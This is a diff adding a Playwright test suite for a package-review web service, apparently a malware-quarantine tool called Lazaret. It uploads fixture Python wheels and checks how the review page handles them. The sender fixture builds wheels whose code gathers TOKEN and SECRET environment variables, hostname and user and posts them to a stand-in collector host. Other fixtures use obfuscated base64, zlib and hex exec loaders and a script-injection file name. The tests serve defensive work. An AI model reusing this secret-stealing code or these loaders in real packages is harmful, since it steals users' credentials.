@@ -1,0 +1,178 @@
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { writeFile } from 'node:fs/promises';
+import { createRequire } from 'node:module';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import type { Browser, Page } from 'playwright-core';
+import { packWheel } from '../../scripts/pack-example.ts';
+import { submit } from '../../src/jobs/submit.ts';
+import { currentDisposition } from '../../src/store/dispositions.ts';
+import { listQueue } from '../../src/store/review-items.ts';
+import { NO_BROWSER, openBrowser, visit } from '../support/browser.ts';
+import { openTestServer, type TestServer } from '../support/http.ts';
+import { stageBytes } from '../support/service.ts';
+
+const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+/** Right-to-left override, markup, a bell and an escape: all of it may be in a file name and in code. */
+const HOSTILE = 'x\u202Egpj.<img src=x onerror="document.title=1">\u0007\u001B[31m';
+const COPIES = 50;
+/** What a person could see of a page, and what an attacker would have put into it; runs in the page. */
+const LOOK = `(() => {
+  const inner = [...document.querySelectorAll('*')].flatMap((one) => one.shadowRoot ?? []);
+  const text = [document.body.innerText, ...inner.map((root) => root.textContent)].join('\\n');
+  const images = [document, ...inner].flatMap((root) => [...root.querySelectorAll('img[onerror]')]).length;
+  return { text, images };
+})()`;
+
+interface Violation {
+  id: string;
+  impact: string;
+  nodes: { html: string }[];
+}
+
+function wheel(project: string, source: string, readme = ''): Uint8Array {
+  const info = `${project}-1.0.dist-info`;
+  const files = {
+    [`${project}/__init__.py`]: source,
+    [`${info}/METADATA`]: `Metadata-Version: 2.1\nName: ${project}\nVersion: 1.0\n\n${readme}`,
+    [`${info}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
+  };
+  return packWheel(Object.entries(files).map(([file, text]) => ({ path: file, bytes: Buffer.from(text) })));
+}
+
+function sender(index: number): string {
+  const name = `v${index}`;
+  return `import os, socket, urllib.request
+def ${name}_collect():
+    ${name} = {}
+    for key, value in os.environ.items():
+        if 'TOKEN' in key or 'SECRET' in key:
+            ${name}[key] = value
+    ${name}['host'] = socket.gethostname()
+    ${name}['user'] = os.getlogin()
+    request = urllib.request.Request('https://h${index}.collector.invalid/c', data=str(${name}).encode())
+    urllib.request.urlopen(request, timeout=5).read()
+${name}_collect()
+`;
+}
+
+describe('the review page', { skip: NO_BROWSER }, () => {
+  let server: TestServer;
+  let browser: Browser;
+  before(async () => {
+    const policy = path.join(tmpdir(), `lazaret-policy-${process.pid}.toml`);
+    await writeFile(policy, 'dry-run = false\n');
+    server = await openTestServer({ 'scan.processes': 1, policy });
+    browser = await openBrowser();
+  });
+  after(async () => {
+    await browser?.close();
+    await server?.close();
+  });
+
+  async function upload(filename: string, bytes: Uint8Array): Promise<string> {
+    const staged = await stageBytes(server.service.vault, bytes);
+    const claims = { uploader: null, url: null, project: null, version: null };
+    await submit(server.service, staged, { filename, source: 'api', ...claims });
+    const verdict = await server.service.verdicts.wait(staged.sha256, 120_000);
+    assert.ok(verdict, filename);
+    return staged.sha256;
+  }
+
+  const reviewer = async () => (await server.browser('reviewer')).name;
+  const waiting = async () => listQueue(server.service.database.db, { state: 'open', limit: 100 });
+
+  async function seriousViolations(page: Page): Promise<string[]> {
+    await page.evaluate(AXE);
+    const found: Violation[] = await page.evaluate('axe.run().then(({ violations }) => violations)');
+    return found
+      .filter(({ impact }) => impact === 'serious' || impact === 'critical')
+      .map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`);
+  }
+
+  it('decides a campaign of 50 in at most 5 key presses, and takes it back', async () => {
+    const hashes: string[] = [];
+    for (let index = 0; index < COPIES; index += 1) {
+      hashes.push(
+        await upload(`helper${index}-1.0-py3-none-any.whl`, wheel(`helper${index}`, sender(index))),
+      );
+    }
+    const { page, problems } = await visit(browser, server, await reviewer());
+    await page.getByText(`${COPIES} distributions`, { exact: false }).first().waitFor();
+    await page.keyboard.press('c');
+    await page.keyboard.press('Enter');
+    await page.getByText(`Confirmed ${COPIES} distributions`).waitFor();
+    for (const sha256 of hashes) {
+      const row = await currentDisposition(server.service.database.db, sha256);
+      assert.deepEqual([row?.disposition, row?.actor.startsWith('user:')], ['refused', true]);
+    }
+    await page.getByRole('button', { name: 'Undo' }).click();
+    await page.getByText(`Took back ${COPIES} decisions`).waitFor();
+    assert.equal((await waiting())[0]?.count, COPIES);
+    assert.deepEqual(problems, []);
+    await page.context().close();
+  });
+
+  it('shows hostile names and code as text, in every place', async () => {
+    const inner = Buffer.from("exec(__import__('base64').b64decode('cHJpbnQoMSk='))").toString('base64');
+    const source = `import base64\n# ${HOSTILE}\nname = ${JSON.stringify(HOSTILE)}\nexec(base64.b64decode('${inner}'))\n`;
+    const sha256 = await upload(`${HOSTILE}-1.0-py3-none-any.whl`, wheel('hostile', source, HOSTILE));
+    const { page, problems } = await visit(browser, server, await reviewer());
+    for (const tab of [
+      'arguments',
+      'findings',
+      'files',
+      'layers',
+      'indicators',
+      'score',
+      'unseen',
+      'history',
+    ]) {
+      await page.goto(`${server.url}distributions/${sha256}?tab=${tab}`);
+      await page.getByRole('tabpanel').waitFor();
+      await page.waitForLoadState('networkidle', { timeout: 3000 }).catch(() => {});
+      const seen: { text: string; images: number } = await page.evaluate(LOOK);
+      assert.equal(seen.images, 0, tab);
+      assert.doesNotMatch(seen.text, /[\u202A-\u202E\u2066-\u2069\u0007\u001B]/, tab);
+      assert.match(seen.text, /⟨U\+202E⟩gpj\.<img src=x onerror=/, tab);
+    }
+    assert.equal(await page.title(), 'Lazaret');
+    assert.deepEqual(problems, []);
+    await page.context().close();
+  });
+
+  it('has no serious fault of accessibility, in light and in dark', async () => {
+    const { page } = await visit(browser, server, await reviewer());
+    await page.locator('.queue-row').first().waitFor();
+    const [row] = await waiting();
+    for (const scheme of ['light', 'dark'] as const) {
+      await page.emulateMedia({ colorScheme: scheme });
+      await page.goto(server.url);
+      await page.locator('.reason').first().waitFor();
+      assert.deepEqual(await seriousViolations(page), [], `queue, ${scheme}`);
+      for (const tab of ['arguments', 'findings', 'files', 'layers', 'score', 'history']) {
+        await page.goto(`${server.url}distributions/${row!.sha256}?tab=${tab}`);
+        await page.getByRole('tabpanel').waitFor();
+        await page.waitForTimeout(300);
+        assert.deepEqual(await seriousViolations(page), [], `${tab}, ${scheme}`);
+      }
+    }
+    await page.context().close();
+  });
+
+  it('keeps up with what happens elsewhere', async () => {
+    const { page } = await visit(browser, server, await reviewer());
+    await page.locator('.queue-row').first().waitFor();
+    await upload(
+      'late-1.0-py3-none-any.whl',
+      wheel(
+        'late',
+        `exec(__import__('zlib').decompress(bytes.fromhex('${'00'}')))\nexec(bytes.fromhex('7072696e74283129'))\n`,
+      ),
+    );
+    await page.getByText('late', { exact: true }).first().waitFor();
+    await page.context().close();
+  });
+});
